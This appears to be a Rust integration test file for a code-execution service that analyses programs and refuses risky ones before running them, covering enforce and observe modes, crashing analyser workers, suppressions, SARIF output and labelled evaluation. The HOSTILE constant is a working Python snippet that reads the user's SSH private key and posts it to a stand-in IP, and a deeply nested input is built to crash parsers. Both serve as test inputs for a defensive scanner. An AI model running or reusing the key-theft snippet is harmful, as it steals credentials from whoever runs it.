//! Programs are read before they run: by processes behind walls, which may die of what they read.

use casemate_tests::{Run, Scratch, Service, Starting, casemate_omit, need_language, raw, raw_with, skip};
use serde_json::{Value, json};
use std::time::Duration;

/// A program that sends away keys.
const HOSTILE: &str = "import base64, os, urllib.request\n\
                       keys = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n\
                       urllib.request.urlopen('http://198.51.100.7/drop', data=base64.b64encode(keys))\n";
/// A program whose parser overflows any stack.
fn deep() -> String {
    format!("x = {}1{}\n", "(".repeat(400_000), ")".repeat(400_000))
}

#[track_caller]
fn analysis(result: &Value) -> &Value {
    let analysis = &result["analysis"];
    for field in [
        "risk_score",
        "axes",
        "reasons",
        "can_execute",
        "mode",
        "restrictions",
        "findings",
        "flows",
        "vulnerabilities",
        "limits_reached",
    ] {
        assert!(analysis.get(field).is_some(), "{field} is missing: {result}");
    }
    analysis
}

#[test]
fn an_honest_program_runs_and_says_how_it_was_read() {
    let outcome = Run::bash("echo hello").go().succeeded();
    let analysis = analysis(&outcome.json);
    assert_eq!(
        (&analysis["can_execute"], &analysis["mode"]),
        (&json!(true), &json!("enforce"))
    );
    assert!(
        outcome.json["timing_ms"]["analysis"]
            .as_f64()
            .is_some_and(|ms| ms > 0.0)
    );
}

#[test]
fn a_hostile_program_is_refused_before_it_runs() {
    if let Some(skip) = need_language("python", &["python3"]) {
        return skip.report();
    }
    let outcome = Run::python(HOSTILE).go().ended("denied", 126);
    assert_eq!(outcome.reason(), Some("risk"));
    assert_eq!(outcome.field("sandbox_id"), &Value::Null);
    assert_eq!(outcome.stdout(), "");
    let analysis = analysis(&outcome.json);
    assert_eq!(analysis["can_execute"], false);
    assert!(!analysis["findings"].as_array().expect("findings").is_empty());
}

#[test]
fn observing_changes_nothing_but_the_report() {
    if let Some(skip) = need_language("python", &["python3"]) {
        return skip.report();
    }
    let outcome = Run::python(format!("print('ran')\n{HOSTILE}")).observed().go();
    assert_eq!((outcome.status(), outcome.stdout()), ("failed", "ran\n"));
    let analysis = analysis(&outcome.json);
    assert_eq!(
        (&analysis["can_execute"], &analysis["mode"]),
        (&json!(false), &json!("observe"))
    );
}

#[test]
fn what_ends_its_reader_is_refused() {
    if let Some(skip) = need_language("python", &["python3"]) {
        return skip.report();
    }
    let outcome = Run::python(deep()).go();
    let analysis = analysis(&outcome.json);
    let limits = analysis["limits_reached"].as_array().expect("limits");
    let known = ["worker_crashed", "too_deep", "syntax_error", "depth"];
    assert!(
        limits
            .iter()
            .any(|limit| known.contains(&limit.as_str().unwrap_or_default())),
        "{limits:?}"
    );
    if limits.contains(&json!("worker_crashed")) {
        let outcome = outcome.ended("denied", 126);
        assert_eq!(outcome.reason(), Some("analysis_failed"));
    }
}

#[test]
fn a_service_reads_refuses_and_keeps_what_it_decided() {
    if let Some(skip) = need_language("python", &["python3"]) {
        return skip.report();
    }
    let service = Service::start();
    let refused = service.run("python", HOSTILE);
    assert_eq!(
        (&refused["status"], &refused["reason"]),
        (&json!("denied"), &json!("risk"))
    );
    let id = refused["id"].as_str().expect("an id");
    let kept = service.get(&format!("/v1/executions/{id}")).expect(200).json();
    assert_eq!(kept["analysis"], refused["analysis"]);
    let body = json!({"language": "python", "code": HOSTILE, "mode": "observe"});
    let observed = service.post(&body, &[]).expect(200).json();
    assert_eq!(observed["status"], "failed", "{observed}");
    assert_eq!(analysis(&observed)["can_execute"], false);
    let read = service.call(
        "POST",
        "/v1/analyses",
        &["Content-Type: application/json"],
        body.to_string().as_bytes(),
    );
    assert_eq!(
        read.expect(200).json()["risk_score"],
        observed["analysis"]["risk_score"]
    );
    let bad = json!({"language": "python", "code": "", "mode": "off"});
    assert_eq!(service.post(&bad, &[]).expect(400).json()["field"], "mode");
}

#[test]
fn a_service_outlives_its_readers() {
    let service = Service::start();
    for round in 0..3 {
        for reader in readers(&service) {
            casemate_tests::command("kill")
                .args(["-KILL", &reader])
                .status()
                .expect("kill");
        }
        let result = service.run("bash", &format!("echo {round}"));
        assert_eq!(result["status"], "succeeded", "{result}");
    }
    let hostile = service.run("python", &deep());
    assert!(
        ["denied", "failed"].contains(&hostile["status"].as_str().unwrap_or_default()),
        "{hostile}"
    );
    assert_eq!(service.run("bash", "echo after")["stdout"], "after\n");
    assert_eq!(service.stop(), 0);
}

/// The pids of the processes that read for a service.
fn readers(service: &Service) -> Vec<String> {
    let parent = service.supervisor().pid.to_string();
    let listed = casemate_tests::command("ps")
        .args(["-o", "pid=,args=", "--ppid", &parent])
        .output()
        .expect("ps");
    let text = String::from_utf8_lossy(&listed.stdout).into_owned();
    let ours = text.lines().filter(|line| line.contains("analysis-worker"));
    ours.filter_map(|line| line.split_whitespace().next().map(str::to_owned))
        .collect()
}

#[test]
fn the_default_mode_is_the_configuration_s() {
    if let Some(skip) = need_language("python", &["python3"]) {
        return skip.report();
    }
    let service = Starting::new()
        .setting("CASEMATE_ANALYSIS_MODE", "observe")
        .start();
    let result = service.run("python", HOSTILE);
    assert_eq!(
        (&result["status"], &result["analysis"]["mode"]),
        (&json!("failed"), &json!("observe"))
    );
    let body = json!({"language": "python", "code": HOSTILE, "mode": "enforce"});
    assert_eq!(service.post(&body, &[]).expect(200).json()["status"], "denied");
}

#[test]
fn a_process_that_reads_can_do_nothing_else() {
    let Some(binary) = casemate_omit() else {
        return skip("CASEMATE_BIN_OMIT names no binary built with the feature test-omit-walls");
    };
    let tried = |what: &str| {
        let output = casemate_tests::command(&binary)
            .args(["analyze", "--worker-try", what])
            .output()
            .expect("start");
        String::from_utf8_lossy(&output.stdout).trim().to_owned()
    };
    for what in ["open", "socket", "fork", "kill", "exec"] {
        assert_eq!(tried(what), "the analyser died; Signal(31)", "{what}");
    }
    for what in ["stack", "memory"] {
        assert!(tried(what).starts_with("the analyser died; Signal("), "{what}");
    }
    assert!(tried("endless").starts_with("the analyser took too long"));
    assert!(tried("nothing").starts_with("answered unknown"));
}

#[test]
fn analyze_says_what_it_found_in_every_form() {
    let scratch = Scratch::new();
    let path = scratch.write("upload.py", HOSTILE);
    let path = path.to_str().expect("a path");
    let told = raw(&["analyze", path]);
    assert_eq!(told.code, 1, "{}", told.stderr);
    assert!(
        told.stdout.contains("would be refused") && told.stdout.contains("^"),
        "{}",
        told.stdout
    );
    assert!(!told.stdout.contains('\x1b'), "colours are for terminals");
    let json = raw(&["analyze", "--json", "--fail-on", "never", path]);
    assert_eq!(json.code, 0);
    let json: Value = serde_json::from_str(&json.stdout).expect("JSON");
    assert_eq!(json["programs"][0]["can_execute"], false);
    let sarif = raw(&["analyze", "--sarif", path]);
    let sarif: Value = serde_json::from_str(&sarif.stdout).expect("JSON");
    assert_eq!(sarif["runs"][0]["results"][0]["ruleId"], "casemate.refused");
    let piped = raw_with(&["analyze", "--language", "bash", "-"], Some(b"ls -l\n"), |_| ());
    assert_eq!(piped.code, 0, "{}", piped.stderr);
    for wrong in [
        &["analyze"][..],
        &["analyze", "/nowhere"],
        &["analyze", "--language", "klingon", path],
    ] {
        assert_eq!(raw(wrong).code, 2, "{wrong:?}");
    }
}

#[test]
fn a_reason_keeps_a_finding_from_the_report_but_not_from_admission() {
    if let Some(skip) = need_language("python", &["python3"]) {
        return skip.report();
    }
    let scratch = Scratch::new();
    let weak = "import hashlib\nprint(hashlib.md5(b'x').hexdigest()[:1])\n";
    let path = scratch.write("weak.py", weak);
    let found = raw(&[
        "analyze",
        "--json",
        "--fail-on",
        "info",
        path.to_str().expect("a path"),
    ]);
    let found: Value = serde_json::from_str(&found.stdout).expect("JSON");
    let rule = found["programs"][0]["vulnerabilities"][0]["rule"]
        .as_str()
        .expect("a weakness")
        .to_owned();
    let line = "hexdigest()[:1])";
    let ignored = weak.replace(line, &format!("{line}  # casemate: ignore[{rule}] no secret"));
    let path = scratch.write("ignored.py", &ignored);
    let told = raw(&[
        "analyze",
        "--json",
        "--fail-on",
        "info",
        path.to_str().expect("a path"),
    ]);
    let json: Value = serde_json::from_str(&told.stdout).expect("JSON");
    assert_eq!(
        json["programs"][0]["suppressed"][0]["reason"], "no secret",
        "{}",
        told.stdout
    );
    let run = Run::python(ignored).go().succeeded();
    assert_eq!(run.json["analysis"]["vulnerabilities"][0]["rule"], rule.as_str());
}

#[test]
fn an_evaluation_counts_as_labels_say() {
    let scratch = Scratch::new();
    let rows = [
        json!({"id": "a", "source": "one", "language": "python", "label": "malicious", "category": "c", "code": HOSTILE}),
        json!({"id": "b", "source": "one", "language": "bash", "label": "benign", "category": "d", "code": "ls\n"}),
        json!({"id": "c", "source": "two", "language": "bash", "label": "weakness", "category": "d", "code": "ls\n"}),
    ];
    let text: String = rows.iter().map(|row| format!("{row}\n")).collect();
    let path = scratch.write("corpus.jsonl", text);
    let told = raw(&["analyze", "--json", "--evaluate", path.to_str().expect("a path")]);
    assert_eq!(told.code, 0, "{}", told.stderr);
    let json: Value = serde_json::from_str(&told.stdout).expect("JSON");
    assert_eq!(
        json["overall"],
        json!({"n": 2, "recall": 1.0, "fpr": 0.0, "accuracy": 1.0, "youden": 1.0})
    );
    assert_eq!(
        json["by_category"]["d"],
        json!({"n": 1, "recall": null, "fpr": 0.0, "accuracy": 1.0, "youden": null})
    );
    assert!(json["by_source"].get("two").is_none());
    assert_eq!((&json["files"], json["seconds"].is_f64()), (&json!(3), true));
}

#[test]
fn reading_is_bounded_in_time() {
    let service = Service::start();
    let long = format!("{}echo end", "true\n".repeat(150_000));
    let begun = std::time::Instant::now();
    let body = json!({"language": "bash", "code": long});
    let read = service.call(
        "POST",
        "/v1/analyses",
        &["Content-Type: application/json"],
        body.to_string().as_bytes(),
    );
    read.expect(200);
    assert!(begun.elapsed() < casemate_tests::seconds(30) + Duration::from_secs(1));
}
